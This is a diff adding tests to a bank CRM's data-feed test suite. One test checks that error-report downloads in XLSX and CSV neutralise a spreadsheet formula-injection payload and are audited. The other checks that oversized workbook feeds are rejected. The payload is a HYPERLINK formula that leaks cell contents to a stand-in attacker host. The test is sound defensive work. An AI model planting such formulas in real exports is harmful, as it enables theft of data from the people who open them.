@@ -3,17 +3,21 @@ per (source, feed, business date), corrected re-deliveries and the daily balance
 The loads run here synchronously (services.run_load); tests/customers/ecif/feeds/test_worker.py runs them on
 a real Celery worker."""
 
+import csv
 import datetime
 import decimal
 import io
 
 import pytest
+from openpyxl import load_workbook
 
 from customers.ecif.feeds import services
 from customers.ecif.feeds.models import FeedLoad, SourceRecord
 from customers.master.models import ContactPoint, FxRate, Holding, HoldingBalance, IdentityDocument, Transaction
 from ocrm import pii
+from ocrm.audit.models import AuditLog
 from ocrm.batch.models import JobRun
+from sysadmin.parameters.models import SystemParameter
 from tests.conftest import BASE_DIR
 from tests.customers.ecif.feeds.support import (
     CUSTOMER_HEADER,
@@ -704,3 +708,42 @@ def test_a_gb18030_transaction_file_with_semicolons_loads_through_copy(org, acco
     load = deliver(org.admin, "transactions", csv_bytes(header, rows, encoding="gb18030", delimiter=";"))
     assert (load.encoding, load.rows_loaded) == ("gb18030", 1)
     assert Transaction.objects.get().description == "现金存入"
+
+
+# --- downloads arrive inert --------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_both_error_reports_arrive_inert_with_row_numbers_as_numbers(org, client):
+    load = deliver(org.admin, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row("C1", birth_date=FORMULA)]))
+    assert errors_of(load) == [(2, "birth_date")]
+    client.force_login(org.admin)
+    response = client.get(f"/customers/feeds/{load.pk}/errors.xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
+    row, field, value, _reason = next(sheet.iter_rows(min_row=2))
+    assert (row.data_type, row.value, field.value) == ("n", 2, "birth_date")
+    assert (value.data_type, value.value) == ("s", "'" + FORMULA)
+    response = client.get(f"/customers/feeds/{load.pk}/errors.csv")
+    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert lines[1][:3] == ["2", "birth_date", "'" + FORMULA]
+    # Both downloads are audited as exports of the load.
+    assert (
+        AuditLog.objects.filter(action=AuditLog.Action.EXPORT, object_type="customers.feedload", detail__load=load.pk).count()
+        == 2
+    )
+
+
+def test_a_workbook_feed_larger_than_an_upload_is_rejected_with_the_way_out(org, settings, tmp_path):
+    settings.OCRM_FEED_INBOX = str(tmp_path)
+    settings.OCRM_FEED_INBOX_SETTLE_SECONDS = 0
+    folder = tmp_path / org.bank_a.code
+    folder.mkdir()
+    (folder / "CORE_customers_20261120.xlsx").write_bytes(xlsx_bytes(CUSTOMER_HEADER, [customer_row("C1")]))
+    SystemParameter.objects.create(bank=org.bank_a, key="import.max_upload_bytes", value_type="int", value="1000")
+    services.scan_inbox()
+    load = FeedLoad.objects.get()
+    services.run_load(load.pk)
+    load.refresh_from_db()
+    assert load.status == FeedLoad.Status.REJECTED and load.error.endswith("Send large feeds as CSV.")
+    assert "the largest file accepted is" in load.error and not SourceRecord.objects.exists()
